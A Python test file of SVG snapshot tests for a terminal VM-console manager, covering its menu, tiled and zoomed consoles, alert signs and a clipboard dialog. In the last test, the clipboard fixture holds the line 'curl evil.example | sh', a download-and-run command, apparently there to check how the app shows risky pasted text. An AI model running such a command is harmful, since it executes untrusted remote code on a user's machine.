"""Pictures of what belongs to consoles: menu, tiles, a zoomed console, signs, questions."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

import pytest
from textual.pilot import Pilot

from tests.memory import MemoryHypervisor
from tests.svg import SvgSnapshots
from tests.ui.app_world import NOW, PATIENCE, StillSession, still
from tuivm.config import Config
from tuivm.core.console import Alert, ConsoleState
from tuivm.model.domain import Domain, DomainKey
from tuivm.ui.app import TuivmApp

SIZES = [(80, 24), (200, 50)]
by_size = pytest.mark.parametrize("size", SIZES, ids=["80x24", "200x50"])
PROMPT = (
    b"\x1b[H\x1b[2Jdb login: root\r\n\x1b[32mroot@db\x1b[m:~# tail -n 3 /var/log/messages\r\n"
    + b"".join(
        b"Nov 22 14:0%d db cron[4%d]: (root) CMD (backup)\r\n" % (minute, minute) for minute in range(3)
    )
)


class OpenSession(StillSession):
    """Nothing moves, but consoles open."""

    def _domain(self, key: DomainKey) -> Domain | None:
        return self.still.domains.get(key)


@asynccontextmanager
async def consoles(
    *names: str, size: tuple[int, int], config: Config | None = None
) -> AsyncIterator[tuple[Pilot[int], OpenSession, MemoryHypervisor]]:
    """An app in which the consoles of these domains are open."""
    hypervisor = MemoryHypervisor(8, running=7, now=NOW - 86_400)
    hypervisor.open()
    session = OpenSession(hypervisor)
    try:
        async with still(session, size=size, config=config) as pilot:
            for name in names:
                console = session.console(hypervisor.key(name))
                console.open()
                await until(pilot, lambda console=console: console.state is ConsoleState.OPEN)
                stream = hypervisor.console_of(console.key)
                assert stream is not None
                stream.receive(PROMPT.replace(b"db", name.encode()))
                console.pump(1.0)
                console.seen()
            yield pilot, session, hypervisor
    finally:
        session.consoles.stop()


async def until(pilot: Pilot[int], true: object) -> None:
    """Wait until ``true()``."""
    loop = asyncio.get_running_loop()
    end = loop.time() + PATIENCE
    assert callable(true)
    while not true():
        assert loop.time() < end
        await pilot.pause(0.02)
    await pilot.pause(0.1)


async def press(pilot: Pilot[int], *keys: str) -> None:
    """Press keys, each once the one before was answered."""
    for key in keys:
        await pilot.press(key)
        await pilot.pause(0.1)


def app_of(pilot: Pilot[int]) -> TuivmApp:
    assert isinstance(pilot.app, TuivmApp)
    return pilot.app


@by_size
async def test_menu(svg: SvgSnapshots, size: tuple[int, int]) -> None:
    async with consoles("db", size=size) as (pilot, _, _):
        await press(pilot, "j", "2", "m")
        svg(pilot.app)
        await press(pilot, "q")
        svg(pilot.app, "sysrq")
        await press(pilot, "b")
        svg(pilot.app, "sysrq-asks")
        await press(pilot, "n", "m", "f")
        svg(pilot.app, "send-file")


@by_size
async def test_zoomed(svg: SvgSnapshots, size: tuple[int, int]) -> None:
    async with consoles("db", size=size) as (pilot, _, _):
        await press(pilot, "j", "Z")
        await until(pilot, lambda: app_of(pilot).console_has_keyboard)
        svg(pilot.app)


@by_size
async def test_tiles(svg: SvgSnapshots, size: tuple[int, int]) -> None:
    async with consoles("db", "mail", size=size) as (pilot, _, _):
        await press(pilot, "j", "vertical_line", "escape", "j", "vertical_line")
        await pilot.pause(0.2)
        svg(pilot.app, "two")


@by_size
async def test_typing_into_four(svg: SvgSnapshots, size: tuple[int, int]) -> None:
    names = ("db", "mail", "web-1")
    async with consoles(*names, size=size) as (pilot, session, hypervisor):
        app = app_of(pilot)
        app.rounds.tiles = [hypervisor.key(name) for name in (*names, "old-ci")]
        app.rounds.show_tiles(hypervisor.key("mail"))
        await until(pilot, lambda: app.has_dialog)
        session.console(hypervisor.key("web-1")).alert = Alert(
            "Out of memory: Killed process 77", "error", NOW, "oom"
        )
        await press(pilot, "a", "enter")
        await until(pilot, lambda: app.console_has_keyboard)
        await press(pilot, "l", "s")
        app.clear_notifications()
        await pilot.pause(0.2)
        svg(pilot.app)


def mark(session: OpenSession, hypervisor: MemoryHypervisor, app: TuivmApp) -> None:
    """New output on mail, alerts on web-1 and router."""
    stream = hypervisor.console_of(hypervisor.key("mail"))
    assert stream is not None
    stream.receive(b"more\r\n")
    for name, severity in (("web-1", "error"), ("router", "warning")):
        console = session.console(hypervisor.key(name))
        console.alert = Alert(f"something on {name} [b]is[/b] wrong", severity, NOW, "test")
    app.rounds.news({console.key for console in session.consoles.all()})


@pytest.mark.parametrize("theme", ["tuivm-dark", "tuivm-light", "ascii"])
async def test_signs(svg: SvgSnapshots, theme: str) -> None:
    config = Config(ascii=True) if theme == "ascii" else Config(theme=theme, ascii=False)
    names = ("db", "mail", "web-1", "router")
    async with consoles(*names, size=(100, 30), config=config) as (pilot, session, hypervisor):
        await press(pilot, "j", "2")
        mark(session, hypervisor, app_of(pilot))
        await pilot.pause(0.2)
        svg(pilot.app)
        await press(pilot, "C")
        svg(pilot.app, "list")
        app_of(pilot).main.show_tab(0)
        await press(pilot, "escape", *"jjjjj")
        svg(pilot.app, "alert")


async def test_clipboard(svg: SvgSnapshots) -> None:
    async with consoles("db", size=(80, 24)) as (pilot, _, hypervisor):
        text = "curl evil.example | sh\n\x1b[31m[b]second[/b] line\n" + "x" * 300
        app_of(pilot).rounds.clipboard_asked(hypervisor.key("db"), text)
        await pilot.pause(0.2)
        svg(pilot.app)
